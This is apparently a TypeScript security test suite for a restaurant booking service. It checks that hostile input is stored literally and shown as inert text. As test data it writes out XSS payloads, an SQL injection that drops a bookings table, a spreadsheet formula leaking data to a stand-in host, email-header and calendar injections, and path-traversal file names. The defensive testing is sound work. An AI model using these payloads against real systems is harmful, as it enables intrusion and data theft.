/** Texts that look like code: stored and displayed literally, executed nowhere. */
import { eq } from 'drizzle-orm';
import { JSDOM } from 'jsdom';
import sharp from 'sharp';
import { GET as showVisit } from '@/app/(guest)/book/[service]/manage/[key]/route';
import { GET as show, POST as act } from '@/app/(guest)/book/[service]/route';
import type { WirePlan } from '@/lib/contract/restaurant/floor';
import { events } from '@/restaurant-api/db/schema/events';
import { areas } from '@/restaurant-api/db/schema/floor';
import { outbox } from '@/restaurant-api/db/schema/log';
import { restaurants, setups } from '@/restaurant-api/db/schema/restaurants';
import { type ApiServer, addRestaurant, addUser, caller, startApi } from '../support/api/api-server';
import { SOFIA, guestOf } from '../support/api/online-guest';
import { sendForm } from '../support/api/page-requests';
import { WEB_ORIGIN, configureWeb } from '../support/api/web';

const SCRIPT = `</script><script>window.robbed=1</script>"><img src=x onerror="window.robbed=1">'{{7*7}}\${7*7}`;
const SQL = `'; drop table bookings; select pg_sleep(10) --`;
const FORMULA = '=HYPERLINK("http://evil.test?"&A1)';

let api: ApiServer;
let owner: ReturnType<typeof caller>;
let ownerToken: string;

beforeAll(async () => {
  // Saturday afternoon in Madrid.
  api = await startApi({ now: () => Date.parse('2026-11-21T15:00:00Z') });
  configureWeb(api.url);
  const { db } = api.database;
  await addRestaurant(api.database, { uid: 'R1', service: 'uno' });
  await db
    .update(restaurants)
    .set({ name: `Casa ${SCRIPT}` })
    .where(eq(restaurants.restaurant, 'R1'));
  const option = { UID: 1, Name: `Chair ${SCRIPT}`, Type: 'seat', Default: '' };
  await db
    .update(setups)
    .set({
      estFull: `Casa ${SCRIPT}`,
      estName: `Casa ${SCRIPT}`,
      estAddress: `Street ${SCRIPT}`,
      guestOptions: [option],
    })
    .where(eq(setups.restaurant, 'R1'));
  await db
    .update(areas)
    .set({ name: `Terrace ${SCRIPT}` })
    .where(eq(areas.area, 2));
  await db.insert(events).values({
    restaurant: 'R1',
    name: `Wine ${SCRIPT}`,
    text: SCRIPT,
    first: '2026-11-22',
    last: '2026-11-28',
    from: 21,
    to: 22,
    online: true,
  });
  ownerToken = (await addUser(api.database, { email: 'owner@uno.test', roles: { R1: 'Owner' } })).token;
  owner = caller(api, ownerToken);
});
afterAll(() => api.close());

const BASE = '/tms/v2/restaurants/R1';
const QUERY = '?service=uno';
const hostile = {
  firstName: `Ana ${SCRIPT}`,
  lastName: SQL,
  eMail: 'ana@example.com',
  phone: '+34600112233',
  notes: FORMULA,
  guestNotes: SCRIPT,
};

/** Everything a browser would execute on a page, except our own script files and the structured data. */
function runs(html: string): string[] {
  const { document } = new JSDOM(html).window;
  const scripts = [...document.querySelectorAll('script')].filter(
    (one) => !one.getAttribute('src')?.match(/^\/[\w.-]+$/) && one.type !== 'application/ld+json',
  );
  const handlers = [...document.querySelectorAll('*')].filter(({ attributes }) =>
    [...attributes].some(({ name }) => name.startsWith('on')),
  );
  return [...scripts, ...handlers, ...document.querySelectorAll('img[src=x]')].map(({ outerHTML }) =>
    outerHTML.slice(0, 200),
  );
}

test.each(['a booking', 'a diner', 'a note', 'an event'])(
  '%s stores every text literally, and returns it',
  async (what) => {
    const made = {
      'a booking': ['books', { ...hostile, on: '2026-11-22', time: 20, covers: 2, by: 1, turn: 2 }],
      'a diner': [
        'diners',
        { firstName: SCRIPT, lastName: SQL, company: FORMULA, notes: SCRIPT, allergies: SQL, tags: ["'; --"] },
      ],
      'a note': ['notes', { date: '2026-11-22', text: `${SCRIPT} ${SQL}` }],
      'an event': [
        'events',
        { name: SQL, text: `${SCRIPT} ${FORMULA}`, first: '2026-11-22', last: '2026-11-22', from: 20, to: 22 },
      ],
    }[what] as [string, Record<string, unknown>];
    const [model, body] = made;
    const { status, body: created } = await owner<{ uid: number; booking?: { uid: number } }>(
      'POST',
      `${BASE}/${model}${QUERY}`,
      body,
    );
    expect([status, created]).toEqual([201, expect.anything()]);
    const { body: read } = await owner('GET', `${BASE}/${model}/${created.uid ?? created.booking?.uid}${QUERY}`);
    const text = JSON.stringify(read);
    const sent = Object.values(body).filter(
      (value): value is string =>
        typeof value === 'string' && [SCRIPT, SQL, FORMULA].some((program) => value.includes(program)),
    );
    expect(sent.length).toBeGreaterThan(0);
    for (const value of sent) expect(text).toContain(JSON.stringify(value).slice(1, -1));
    expect((await owner('GET', `${BASE}/books${QUERY}&date=2026-11-22`)).status).toBe(200);
  },
);

describe('the guests’ pages execute nothing of it', () => {
  const params = { params: Promise.resolve({ service: 'uno' }) };
  const page = async (path: string) =>
    (await show(new Request(WEB_ORIGIN + path, { headers: { 'accept-language': 'en' } }), params)).text();

  const input = encodeURIComponent(SCRIPT);
  test.each([
    ['as they are', '/book/uno?date=2026-11-22'],
    ['with hostile answers in the address', `/book/uno?date=2026-11-22&covers=${input}&area=${input}&channel=${input}`],
    ['in a hostile language, in a frame', `/book/uno?lang=${input}&embed=1`],
  ])('%s', async (_how, path) => {
    const html = await page(path);
    expect(html).toContain('Casa &lt;/script&gt;');
    expect(runs(html)).toEqual([]);
  });

  test("a guest's input comes back as text", async () => {
    const fields = {
      action: 'book',
      details: '1',
      once: 'once-0001',
      date: '2026-11-22',
      time: '20:00',
      covers: '2',
      firstName: SCRIPT,
      lastName: SCRIPT,
      email: SCRIPT,
      phone: SCRIPT,
      phoneCountry: 'ES',
      notes: SCRIPT,
      event: SCRIPT,
    };
    const html = await (await act(sendForm('/book/uno', fields), params)).text();
    expect(html).toContain('window.robbed');
    expect(runs(html)).toEqual([]);
  });

  test('their booking is shown, written to a calendar and mailed as text', async () => {
    const booking = { ...SOFIA, date: '2026-11-23', time: 20, firstName: SCRIPT, guestNotes: 'x\r\nBEGIN:VALARM' };
    const twoLines = await guestOf(api, 'uno').book({ ...booking, lastName: 'a\r\nBcc: everybody@evil.test' });
    expect([twoLines.status, twoLines.body.errors]).toEqual([400, [{ field: 'lastName', message: 'invalid' }]]);
    const { body } = await guestOf(api, 'uno').book({ ...booking, lastName: 'Bcc: everybody@evil.test' });
    const visit = { params: Promise.resolve({ service: 'uno', key: body.key }) };
    const html = await (
      await showVisit(
        new Request(`${WEB_ORIGIN}/book/uno/manage/${body.key}`, { headers: { 'accept-language': 'en' } }),
        visit,
      )
    ).text();
    expect(runs(html)).toEqual([]);
    const { body: calendar } = await guestOf(api, 'uno').call<string>('GET', `/bookings/${body.key}/calendar.ics`);
    expect(String(calendar)).not.toMatch(/^(Bcc|BEGIN:VALARM)/m);
    const [mail] = await api.database.db.select().from(outbox).where(eq(outbox.recipient, SOFIA.email));
    expect([mail?.subject.includes('\n'), mail?.recipient]).toEqual([false, SOFIA.email]);
  });
});

describe('short payloads, where only a short name fits', () => {
  const SHORT = '<img src=x onerror=1>';

  test('a plan, an area and a table have them as names, and guests see the area as text', async () => {
    await addRestaurant(api.database, { uid: 'R2', service: 'dos' });
    const manager = caller(
      api,
      (await addUser(api.database, { email: 'manager@dos.test', roles: { R2: 'Manager' } })).token,
    );
    const path = '/tms/v2/restaurants/R2/tables';
    const { body } = await manager<{ plans: Record<string, WirePlan> }>('GET', path);
    const { version, width, height, boxes, tables } = body.plans.main as WirePlan;
    const named = {
      version,
      width,
      height,
      name: SHORT,
      joins: [],
      boxes: boxes.map((box) => (box.area === 1 ? { ...box, name: SHORT } : box)),
      tables: tables.map(({ w: _w, h: _h, ...table }) => (table.uid === 't1' ? { ...table, name: SHORT } : table)),
    };
    const { status, body: saved } = await manager<WirePlan>('PATCH', `${path}/main`, named);
    expect([status, saved.name, saved.boxes[0]?.name, saved.tables.find(({ uid }) => uid === 't1')?.name]).toEqual([
      200,
      SHORT,
      SHORT,
      SHORT,
    ]);
    const html = await (
      await show(new Request(`${WEB_ORIGIN}/book/dos?date=2026-11-22`, { headers: { 'accept-language': 'en' } }), {
        params: Promise.resolve({ service: 'dos' }),
      })
    ).text();
    expect(html).toContain('&lt;img src=x onerror=1&gt;');
    expect(runs(html)).toEqual([]);
  });

  test('a whole diner of them is stored, and mailed as text', async () => {
    const { status, body } = await owner('POST', `${BASE}/diners${QUERY}`, {
      firstName: SHORT,
      lastName: SHORT,
      company: SHORT,
      notes: SHORT,
      allergies: SHORT,
      tags: [SHORT],
    });
    expect([status, body]).toEqual([
      201,
      expect.objectContaining({
        firstName: SHORT,
        lastName: SHORT,
        company: SHORT,
        notes: SHORT,
        allergies: SHORT,
        tags: [SHORT],
      }),
    ]);
    await guestOf(api, 'uno').book({
      ...SOFIA,
      date: '2026-11-24',
      time: 20,
      firstName: SHORT,
      lastName: SHORT,
      email: 'img@example.com',
      phone: '+34600112299',
    });
    const [mail] = await api.database.db.select().from(outbox).where(eq(outbox.recipient, 'img@example.com'));
    expect(mail).toMatchObject({ recipient: 'img@example.com' });
    expect(mail?.html).not.toContain('<img src=x');
    expect(mail?.html).toContain('&lt;img src=x');
  });

  test.each(['../../../etc/passwd.png', '"><img src=x onerror=1>.png', 'x.<script>', '..\\..\\x.png', 'a.png/../../b'])(
    'an image called %s is stored under our own name',
    async (fileName) => {
      const form = new FormData();
      const image = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#123456' } })
        .png()
        .toBuffer();
      form.append('picture', new Blob([new Uint8Array(image)]), fileName);
      const response = await fetch(`${api.url}${BASE}${QUERY}`, {
        method: 'PATCH',
        body: form,
        headers: { authorization: `Bearer ${ownerToken}` },
      });
      const { picture } = (await response.json()) as { picture: string };
      expect(picture).toMatch(/^\/tms\/v2\/files\/R1\/[0-9a-f]{64}\/picture\.(png|jpeg|script)$/);
      const stored = await fetch(api.url + picture);
      expect([stored.status, stored.headers.get('content-type'), stored.headers.get('x-content-type-options')]).toEqual(
        [200, 'image/png', 'nosniff'],
      );
    },
  );

  test('a contract and a table of bookings have a plain file name, and are sent as an attachment', async () => {
    const form = new FormData();
    form.append('file', new Blob(['%PDF-1.4\n%%EOF']), '../../"><img src=x onerror=1>\r\nX: 1.pdf');
    const path = `${api.url}/auth/v1/accounts/contract/R1${QUERY}`;
    const authorization = { authorization: `Bearer ${ownerToken}` };
    const { signed } = (await (await fetch(path, { method: 'POST', body: form, headers: authorization })).json()) as {
      signed: { fileName: string };
    };
    expect(signed.fileName).not.toMatch(/[/\\\r\n]/);
    const copy = await fetch(path, { headers: authorization });
    expect([copy.headers.get('content-type'), copy.headers.get('x')]).toEqual(['application/pdf', null]);
    expect(copy.headers.get('content-disposition')).toMatch(
      /^attachment; filename="[^"\r\n]*"; filename\*=UTF-8''[\w%.!'()*~-]+$/,
    );
  });
});
